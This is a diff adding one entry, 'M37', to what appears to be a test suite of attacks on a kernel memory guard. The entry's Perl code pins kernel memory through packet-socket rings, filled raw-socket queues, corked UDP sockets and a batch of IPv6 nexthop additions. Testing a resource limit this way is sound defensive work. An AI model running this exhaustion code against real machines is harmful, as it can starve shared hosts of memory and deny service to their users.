@@ -498,6 +498,44 @@ close $tell;
 for (1 .. 12) { $held += 12_288 * <$told> }
 """,
         ),
+        Attack(
+            id="M37",
+            title="rings, queues of packet sockets, sockets in no list and next hops at once, each below its own bound",
+            wall="what the guard allows is what the budget of rings leaves",
+            perl=QUEUES
+            + f"""
+socket(my $ring, 17, SOCK_RAW, 0);
+while (setsockopt($ring, 263, 5, pack("LLLL", 1 << 20, 2, 2048, 1024))) {{
+    $held += 2 << 20;
+    push @keep, $ring;
+    socket($ring = undef, 17, SOCK_RAW, 0) or last;
+}}
+my $rings = $held;
+while ($held < $rings + (12 << 20)) {{
+    socket(my $socket, 17, SOCK_RAW, 3 << 8) or last;
+    push @keep, $socket;
+    $held += fill($socket, $there);
+}}
+for (1 .. 8) {{
+    socket(my $socket, AF_INET, SOCK_DGRAM, 0) or last;
+    setsockopt($socket, 17, 1, pack("l", 1));
+    $held += send($socket, $piece, 0, $there) // 0;
+    connect($socket, pack("Sx14", 0));
+    push @keep, $socket;
+}}
+open(my $hops, "|-", "ip -6 -force -batch -");
+for (my $id = 1; $held < {MOST + 4} << 20; $id++) {{
+    print $hops "nexthop add id $id dev eth0\n";
+    $held += 448;
+}}
+close $hops;
+print "HELD $held\n";
+sleep 15;
+""",
+            judge=_ends,
+            beside=True,
+            control=GUARD,
+        ),
         held_in_the_kernel(
             "M31",
             "addresses of an interface for multicast groups (SIOCADDMULTI)",
